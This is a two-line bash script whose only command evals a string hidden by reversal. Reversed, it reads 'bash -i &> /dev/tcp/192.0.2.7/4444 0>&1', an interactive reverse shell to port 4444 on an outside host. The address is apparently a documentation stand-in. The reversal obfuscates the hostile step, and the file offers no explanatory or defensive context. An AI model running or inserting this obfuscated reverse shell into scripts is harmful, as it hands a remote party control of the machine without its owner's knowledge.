#!/bin/bash
eval "$(echo "1&>0 4444/7.2.0.291/pct/ved/ &> i- hsab" | rev)"
